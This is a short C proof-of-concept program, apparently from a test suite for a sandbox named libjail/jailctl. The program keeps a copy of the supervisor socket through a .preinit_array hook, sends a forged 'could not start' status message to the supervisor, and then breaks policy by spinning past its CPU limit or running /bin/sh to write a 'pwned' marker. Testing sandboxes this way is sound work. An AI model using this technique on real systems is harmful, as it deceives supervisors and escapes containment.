/* forge_failed: in a .preinit_array function, keeps a copy of the supervisor socket (descriptor 3, which libjail's constructor closes) with fcntl(F_DUPFD_CLOEXEC); in main it puts it back as descriptor 3 and sends jailctl's own "could not start" message on it with sendmsg, the call libjail's word is sent with, then does what its policy forbids: argv[1] "spin" spins past its CPU limit, "exec" runs /bin/sh, which leaves the marker argv[2]. */
#include "attack.h"
#include <sys/socket.h>

static int kept = -1;

static void keep_socket(int argc, char **argv, char **envp)
{
	(void)argc, (void)argv, (void)envp;
	kept = fcntl(3, F_DUPFD_CLOEXEC, 50);
}

__attribute__((section(".preinit_array"), used)) static void (*const preinit)(int, char **, char **) = keep_socket;

int main(int argc, char **argv)
{
	static const char forged[] = "jailctl:failed:256:the sandbox could not start (forged by the program)";

	usage(argc, 2, "spin|exec MARKER");
	if (kept < 0)
		failed("keep a copy of the supervisor socket");
	struct iovec iov = { .iov_base = (void *)forged, .iov_len = sizeof(forged) - 1 };
	struct msghdr msg = { .msg_iov = &iov, .msg_iovlen = 1 };
	if (fcntl(kept, F_DUPFD_CLOEXEC, 3) != 3)
		failed("put the socket back as descriptor 3");
	if (sendmsg(3, &msg, 0) != (ssize_t)iov.iov_len)
		failed("send the forged message");
	if (strcmp(argv[1], "exec") == 0) {
		char cmd[300];
		snprintf(cmd, sizeof(cmd), "echo pwned > %s", argv[2]);
		execl("/bin/sh", "sh", "-c", cmd, (char *)NULL);
		failed("execl /bin/sh");
	}
	succeeded("sent the forged message, now spinning");
	for (volatile unsigned long i = 0;; i++)
		;
}
